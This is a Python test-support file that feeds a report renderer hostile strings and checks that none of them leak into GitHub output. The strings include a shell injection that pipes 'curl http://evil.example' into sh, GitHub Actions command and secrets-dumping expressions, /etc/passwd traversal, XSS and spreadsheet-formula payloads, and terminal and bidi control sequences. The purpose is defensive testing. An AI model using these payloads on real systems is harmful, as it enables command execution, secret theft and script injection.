"""Text that tries to be more than text, and evidence that carries it."""

from collections.abc import Iterator
from dataclasses import replace

from support.evidence_builder import changed

from crucible.evidence import Evidence, FaultEvent, Request, ServiceFacts, Timing, Traffic

_TEXTS = {
    "command": "::error file=a::pwned\n::set-output name=a::b",
    "old command": "##[error]pwned ##[add-mask]a",
    "mention": "@octocat @github/team a@b.example #1 http://evil.example www.evil.example",
    "html": "</details></summary><script>alert(1)</script><img src=x onerror=a><!-- ",
    "fence": "```\n# out\n```\n~~~\n`a``b```",
    "table": "a | b | c \\| d\n| --- |\n",
    "link": "[a](javascript:alert(1)) ![b](http://evil.example/p.png) <http://evil.example> [x]: y",
    "ansi": "\x1b[31mred\x1b]8;;http://evil.example\x07link\x9b2J\r\b\b",
    "nul": "a\0b\x7f",
    "long": "a" * 2_000_000,
    "bidi": "\u202eabc\u2066def\u2069\u200b\u200d\ufeff",
    "lines": "a\n\n# b\r\n- c\u2028d\u2029e\x0bf\x0cg\x85h",
    "surrogate": "\ud800",
    "rich": "[bold red]x[/bold red] [link=http://evil.example]y[/link] [/]",
    "mermaid": '"] --> x["end\n%%{init: {}}%% click p0 "http://evil.example"',
    "jinja": "{{ 7 * 7 }}{% raw %}{# ",
    "empty": "",
    # What a title, a branch, a path or a log line may be called.
    "shell": '"; curl http://evil.example | sh; echo "$(id)`id`${IFS}',
    "expression": "${{ github.token }} ${{ toJSON(secrets) }}",
    "option": "--output=/etc/passwd",
    "options": "-rf\n--force",
    "path": "../../../../etc/passwd",
    "windows path": "C:\\\\x\\..\\y",
    "heredoc": "x\nEOF\nPATH=/evil\nEOF\n",
    "delimiter": "ghadelimiter_00000000-0000-0000-0000-000000000000\nx=y",
    "output": "outcome<<E\npassed\nE",
    "assignment": "outcome=passed\nresult=/evil",
    "stop": "::stop-commands::x\n::x::",
    "mask": "::add-mask::a",
    "group": "::group::a\n::endgroup::",
    "escaped command": "%0A::error::pwned%0D%0A::warning::x",
    "upper command": "::ERROR::pwned ::Set-Env name=a::b",
    "properties": "a,line=1,file=b::c:d,title=e",
    "comment end": "--> <img src=x onerror=alert(1)> <!--",
    "our mark": "<!-- crucible-feedback 0123456789abcdef -->",
    "cdata": "]]><![CDATA[</style><script>alert(1)</script>",
    "attribute": "\" autofocus onfocus=alert(1) x='` ",
    "details": "<details open ontoggle=alert(1)><summary>a</summary>",
    "entity": "&lt;script&gt;&#60;b&#62;&amp;amp;&nbsp;",
    "formula": '=HYPERLINK("http://evil.example";"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "csv": 'a,b;"c"\n"d,e',
    "reference": "#1 GH-1 a/b#1 deadbeefdeadbeefdeadbeefdeadbeefdeadbeef",
    "userinfo": "http://user:pass@evil.example/?a=b&c=d#e",
    "definition": "[a]: http://evil.example 'x'\n[a]",
    "quote": "> [!WARNING]\n> x\n\n---\n***",
    "rule": "x\n===\ny\n---",
    "combining": "a" + "\u0301" * 500,
    "wide at": "\uff20octocat \ufe6bteam",
    "tags": "\U000e0001\U000e0041\ue000\uffff",
    "newlines": "\n" * 2_000_000,
    "deep": "[" * 100_000,
}
NAMES = list(_TEXTS)
TEXTS = list(_TEXTS.values())
_NEVER = (
    "\x1b",
    "\0",
    "\x7f",
    "\x9b",
    "\r",
    "\x85",
    "\u2028",
    "\u202e",
    "\u2066",
    "\u200b",
    "::error",
    "::set",
    "##[",
    "a" * 1000,
)
_LURES = ("@octocat", "@github", "@b.example", "http://evil", "www.evil")


def leaks(rendered: str) -> list[str]:
    """What must not be in any report and is."""
    return [repr(text) for text in _NEVER if text in rendered]


def lures(text: str) -> list[str]:
    """What GitHub would make a mention or a link of, outside code."""
    return [lure for lure in _LURES if lure in text]


def everywhere(evidence: Evidence, text: str) -> Iterator[Evidence]:
    """The evidence with `text` in all fields that a report shows: names too, which then are no longer known."""
    yield wordy(evidence, text)
    first = evidence.own.recordings[1]
    op = replace(first.ops[0], target=text, request=Request(text, text, {text: text}))
    events = tuple(
        FaultEvent(kind, text, 1, detail=dict.fromkeys(("status", "held_bytes", "processes", "most"), text))
        for kind in ("died", "out_of_memory", "too_many_processes", text)
    )
    traffic = Traffic(text, text, 1, 1, 1, 1, 1)
    own = evidence.own
    yield changed(
        wordy(evidence, text),
        profile=text,
        recordings=(
            own.recordings[0],
            replace(first, ops=(op,) * 14, events=events),
            own.recordings[2],
        ),
        process_types=("web", text),
        traffic=(*own.traffic, traffic, replace(traffic, process="web"), replace(traffic, service="redis")),
        services=(
            *own.services,
            ServiceFacts(text, text, text, 1.0, None),
            ServiceFacts("x", text, text, 1, 1),
        ),
    )
    yield changed(
        evidence,
        recordings=tuple(
            replace(it, ops=tuple(replace(op, status=None, reply=None, error=text, result=op.result) for op in it.ops))
            for it in evidence.own.recordings
        ),
    )


def wordy(evidence: Evidence, text: str) -> Evidence:
    """The evidence with `text` wherever words, not names, are."""
    race = evidence.own.recordings[1]
    ops = tuple(
        replace(op, reply=[text, {text: text}], request=Request("POST", f"/{text}", text), error=text)
        for op in race.ops
    )
    return changed(
        evidence,
        crucible=text,
        recordings=(evidence.own.recordings[0], replace(race, ops=ops), *evidence.own.recordings[2:]),
        services=tuple(replace(it, source=text, version=text) for it in evidence.own.services),
        machine=replace(evidence.machine, cpu=text, system=text),
        timings=(Timing(text, 1.0), *evidence.timings),
        notes=(text, *evidence.notes),
    )
